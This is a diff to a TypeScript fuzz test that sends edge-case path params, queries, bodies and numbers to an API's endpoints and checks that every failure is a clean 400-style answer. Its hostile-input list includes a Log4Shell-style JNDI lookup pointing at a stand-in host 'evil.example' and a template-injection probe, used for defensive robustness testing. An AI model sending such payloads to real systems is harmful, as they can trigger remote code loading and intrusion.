@@ -1,7 +1,9 @@
 /**
- * Fuzz: random and hostile bodies, path params, query strings and headers against every mounted endpoint.
- * No 5xx, no stack trace or internal detail in any answer, every failure is `{ httpCode, code, message }`, and a
- * refused call stores nothing.
+ * Fuzz: random and hostile bodies, path params, query strings and headers against every mounted endpoint (accounts,
+ * catalog, lending, signing, push). Hostile text includes NUL, lone surrogates, huge numbers and exponent notation;
+ * every query key of the endpoint is fuzzed, and every numeric field of every query and body gets huge, tiny,
+ * negative and exponent-notation numbers. No 5xx, no stack trace or internal detail in any answer, every failure is
+ * `{ httpCode, code, message }`, and a refused call stores nothing.
  */
 
 import { sql } from 'drizzle-orm';
@@ -36,8 +38,19 @@ const HOSTILE = [
   '${jndi:ldap://evil.example/a}',
   '{{7*7}}',
   '\u0000',
+  'a\u0000b',
   '%00',
   '\uD800',
+  '\uDC00x',
+  'x\uD83D',
+  '99999999999999999999',
+  '1e5',
+  '1E+2',
+  '-1e308',
+  '1e-7',
+  '0x10',
+  'Infinity',
+  '9007199254740993',
   '🙂🙃',
   'ÁÉÍÓÚÑ',
   'a'.repeat(5000),
@@ -67,11 +80,95 @@ const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
   fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
 );
 
-function keysOf(e: Endpoint): string[] {
-  const shape = (e.body as unknown as { _zod?: { def?: { shape?: Record<string, unknown> } } } | undefined)
-    ?._zod?.def?.shape;
+type ZodDef = {
+  type?: string;
+  shape?: Record<string, unknown>;
+  innerType?: unknown;
+  in?: unknown;
+  out?: unknown;
+  element?: unknown;
+  options?: unknown[];
+};
+const defOf = (schema: unknown) => (schema as { _zod?: { def?: ZodDef } } | undefined)?._zod?.def;
+
+function keysOf(schema: unknown): string[] {
+  const shape = defOf(schema)?.shape;
   return shape ? Object.keys(shape) : [];
 }
+
+/** Paths of every number (or number-coerced) field of a request schema. */
+function numericPaths(schema: unknown, prefix: string[] = []): string[][] {
+  const def = defOf(schema);
+  switch (def?.type) {
+    case 'number':
+      return [prefix];
+    case 'object':
+      return Object.entries(def.shape ?? {}).flatMap(([k, v]) => numericPaths(v, [...prefix, k]));
+    case 'optional':
+    case 'nullable':
+    case 'default':
+    case 'prefault':
+    case 'readonly':
+    case 'nonoptional':
+      return numericPaths(def.innerType, prefix);
+    case 'pipe': {
+      const first = numericPaths(def.in, prefix);
+      return first.length ? first : numericPaths(def.out, prefix);
+    }
+    case 'array':
+      return numericPaths(def.element, [...prefix, '0']);
+    case 'union':
+      return (def.options ?? []).flatMap((o) => numericPaths(o, prefix));
+    default:
+      return [];
+  }
+}
+
+type Issue = { path: PropertyKey[]; errors?: Issue[][] };
+/** Every issue path, the ones inside union branches included (`a.b`). */
+function issuePaths(issues: readonly Issue[], prefix: PropertyKey[] = []): string[] {
+  return issues.flatMap((i) => [
+    [...prefix, ...i.path].map(String).join('.'),
+    ...(i.errors ?? []).flatMap((branch) => issuePaths(branch, [...prefix, ...i.path])),
+  ]);
+}
+
+/** Percent-encodes any text, lone surrogates included (as their WTF-8 bytes, which `encodeURIComponent` refuses). */
+function encodeAny(s: string): string {
+  let out = '';
+  for (const ch of s) {
+    const code = ch.codePointAt(0)!;
+    if (code >= 0xd800 && code <= 0xdfff) {
+      out += [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)]
+        .map((b) => `%${b.toString(16).toUpperCase()}`)
+        .join('');
+    } else out += encodeURIComponent(ch);
+  }
+  return out;
+}
+
+/** An object with only `path` set to `value` (arrays as index 0). */
+function withPath(path: string[], value: unknown): unknown {
+  if (path.length === 0) return value;
+  const [head, ...rest] = path;
+  return head === '0' ? [withPath(rest, value)] : { [head!]: withPath(rest, value) };
+}
+
+/** Numeric fields the server ignores and never stores (browser data passed through). */
+const UNBOUNDED_OK = new Set(['push.subscribe body subscription.expirationTime']);
+
+const HUGE_NUMBERS: readonly unknown[] = [1e20, 1e308, -1e308, 2 ** 53 + 2];
+const HUGE_NUMBER_TEXT = ['99999999999999999999', '1e20', '1E+300', '-1e308', '9007199254740993', 'Infinity'];
+const ODD_NUMBER_TEXT = ['1e5', '1.2e1', '1e-7', '1e-400', '-0', '0x10', '0b1', ' 12 ', '1_000', 'NaN'];
+
+/** Valid values for query keys, so that one hostile numeric field at a time reaches the handler. */
+const QUERY_BASE: Record<string, string> = {
+  creditAmount: '10000',
+  requestedPeriod: '12',
+  type: 'PERSONAL_LOAN',
+  name: 'a',
+  limit: '1',
+};
 
 /** Bodies: anything, raw junk text, or the endpoint's own keys with hostile values. */
 const bodyFor = (e: Endpoint) =>
@@ -94,7 +191,10 @@ const bodyFor = (e: Endpoint) =>
     fc.record({
       kind: fc.constant('json' as const),
       value: fc.record(
-        Object.fromEntries(keysOf(e).map((k) => [k, hostileValue])) as Record<string, fc.Arbitrary<unknown>>,
+        Object.fromEntries(keysOf(e.body).map((k) => [k, hostileValue])) as Record<
+          string,
+          fc.Arbitrary<unknown>
+        >,
       ),
     }),
   );
@@ -169,18 +269,17 @@ describe('fuzz', () => {
         fc.asyncProperty(
           fc.array(hostileString, { minLength: paramNames.length, maxLength: paramNames.length }),
           fc.dictionary(
-            fc.constantFrom('name', 'limit', 'phoneNumber', 'curp', 'email', 'to', 'x'),
+            fc.constantFrom(
+              ...new Set(['name', 'limit', 'phoneNumber', 'curp', 'email', 'to', 'x', ...keysOf(e.query)]),
+            ),
             hostileString,
-            { maxKeys: 3 },
+            { maxKeys: 4 },
           ),
           bodyFor(e),
           headerArb,
           async (params, query, body, headers) => {
             let i = 0;
-            const path = e.path.replace(
-              /:([A-Za-z0-9_]+)/g,
-              () => encodeURIComponent(params[i++] ?? '') || 'x',
-            );
+            const path = e.path.replace(/:([A-Za-z0-9_]+)/g, () => encodeAny(params[i++] ?? '') || 'x');
             const qs = new URLSearchParams(query).toString();
             const before = await rowCounts();
             const h: Record<string, string> = {};
@@ -203,6 +302,81 @@ describe('fuzz', () => {
       );
     }
     expect([...new Set(problems)]).toEqual([]);
+  });
+
+  it('every numeric field of every query and body refuses a huge number (schema level)', () => {
+    const accepted: string[] = [];
+    for (const e of mountedEndpoints(api.app)) {
+      for (const [where, schema, samples] of [
+        ['query', e.query, HUGE_NUMBER_TEXT],
+        ['body', e.body, HUGE_NUMBERS],
+      ] as const) {
+        for (const path of numericPaths(schema)) {
+          const field = path.join('.');
+          if (UNBOUNDED_OK.has(`${e.id} ${where} ${field}`)) continue;
+          for (const value of samples) {
+            const result = schema!.safeParse(withPath(path, value));
+            const flagged = !result.success && issuePaths(result.error.issues).includes(field);
+            if (!flagged) accepted.push(`${e.id} ${where} ${field}=${String(value)}`);
+          }
+        }
+      }
+    }
+    expect(accepted).toEqual([]);
+  });
+
+  it('huge, tiny and exponent-notation numbers in every numeric query field never cause a 5xx', async () => {
+    const token = tokens[0]!;
+    const problems: string[] = [];
+    let checked = 0;
+    for (const e of mountedEndpoints(api.app)) {
+      const fields = numericPaths(e.query).map((p) => p.join('.'));
+      for (const field of fields) {
+        for (const value of [...HUGE_NUMBER_TEXT, ...ODD_NUMBER_TEXT]) {
+          const query = new URLSearchParams(
+            Object.fromEntries(keysOf(e.query).map((k) => [k, QUERY_BASE[k] ?? 'x'])),
+          );
+          query.set(field, value);
+          const res = await api.request(e.method, `/api${e.path}?${query}`, {
+            token:
+              e.auth !== 'public' && e.auth.includes('business') && !e.auth.includes('client')
+                ? tokens[2]
+                : token,
+          });
+          checked++;
+          const problem = checkAnswer(e, res.status, res.text);
+          if (problem) problems.push(`${problem} (${field}=${value})`);
+          if (HUGE_NUMBER_TEXT.includes(value) && res.status !== 400)
+            problems.push(`${e.id}: ${field}=${value} answered ${res.status}, not 400`);
+        }
+      }
+    }
+    expect(checked).toBeGreaterThan(0);
+    expect(problems).toEqual([]);
+  });
+
+  it('NUL and lone surrogates in any path segment, query or body are refused (400), never a 5xx', async () => {
+    const problems: string[] = [];
+    for (const e of mountedEndpoints(api.app)) {
+      for (const bad of ['\u0000', 'a\u0000b', '\uD800', 'x\uDC00']) {
+        const path = e.path.replace(/:([A-Za-z0-9_]+)/g, () => encodeAny(bad));
+        const withNul = e.path.includes(':') ? `/api${path}` : `/api${e.path}?x=${encodeAny(bad)}`;
+        for (const token of tokens.slice(0, 3)) {
+          const res = await api.request(e.method, withNul, {
+            token,
+            ...(e.method === 'GET' ? {} : { body: Object.fromEntries(keysOf(e.body).map((k) => [k, bad])) }),
+          });
+          const problem = checkAnswer(e, res.status, res.text);
+          if (problem) problems.push(`${problem} (${JSON.stringify(bad)})`);
+          // Past the token check, the text itself is refused: 400. (A lone surrogate cannot travel in a URL as
+          // text: its percent-encoded bytes are not UTF-8 and stay as they are; it can in a JSON body.)
+          const carried = bad.includes('\u0000') || (e.method !== 'GET' && keysOf(e.body).length > 0);
+          if (carried && ![400, 401, 403].includes(res.status))
+            problems.push(`${e.id}: ${res.status} for ${JSON.stringify(bad)}`);
+        }
+      }
+    }
+    expect(problems).toEqual([]);
   });
 
   it('oversized bodies are refused with 413', async () => {
